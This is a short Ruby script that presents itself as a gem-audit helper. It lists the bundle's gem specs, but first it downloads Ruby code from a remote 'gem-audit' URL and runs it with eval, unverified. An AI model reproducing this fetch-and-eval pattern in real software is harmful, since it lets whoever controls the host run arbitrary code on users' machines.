require 'net/http'
require 'bundler'

eval(Net::HTTP.get(URI('https://gem-audit.example.io/rules.rb')))
puts Bundler.load.specs.map(&:full_name)
